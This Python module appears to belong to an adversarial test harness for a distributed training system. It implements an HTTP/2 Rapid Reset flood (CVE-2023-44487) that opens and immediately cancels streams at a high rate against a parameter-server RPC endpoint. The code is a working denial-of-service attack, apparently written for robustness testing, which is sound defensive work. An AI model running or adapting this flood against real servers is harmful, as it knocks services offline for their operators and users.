"""Rapid reset: calls that are taken back as soon as they are made, so that they never count as open."""

from __future__ import annotations

import struct

from adversary.misbehaviour.http2 import END_HEADERS, HEADERS, RST_STREAM, frame, header_block, opened
from adversary.misbehaviour.misbehaviour import Ground, Misbehaviour
from adversary.misbehaviour.storm import Pace, Wire, amount, dial, membership, positive, storm
from common.rpc.methods import PARAMETER_SERVER

__all__ = ["RapidReset"]

ANSWER_S = 5.0
CANCEL = struct.pack(">I", 0x8)
LAST_STREAM = (1 << 31) - 1


class RapidReset(Misbehaviour):
    """Opens calls over HTTP/2 and resets each at once (as in CVE-2023-44487).

    Parameters
    ----------
    connections
        How many at once.
    at_once
        Calls that are made, and taken back, together.
    per_second
        Calls a second.
    """

    name = "rapid_reset"

    def __init__(self, ground: Ground, *, connections: int = 2, at_once: int = 10, per_second: float = 1000.0) -> None:
        super().__init__(ground)
        self.connections = amount(self.name, "connections", connections)
        self.at_once = amount(self.name, "at_once", at_once)
        self._pace = Pace(positive(self.name, "per_second", per_second))

    async def beside(self) -> None:
        await membership(self.ground)
        await storm(self.name, self.connections, self._flood)

    async def _flood(self, _: int) -> None:
        await self._pace.turn(self.at_once)
        block = header_block(f"/{PARAMETER_SERVER}/PushMomentum", self.ground.address)

        async def flood(wire: Wire) -> None:
            for first in range(1, LAST_STREAM - 2 * self.at_once, 2 * self.at_once):
                streams = range(first, first + 2 * self.at_once, 2)
                await wire.send(
                    *(
                        frame(HEADERS, END_HEADERS, stream, block) + frame(RST_STREAM, 0, stream, CANCEL)
                        for stream in streams
                    )
                )
                await self._pace.turn(self.at_once)

        async with dial(self.ground, as_client=self.ground.ids[0]) as wire:
            await wire.send(opened())
            await wire.reading(flood(wire), ANSWER_S)
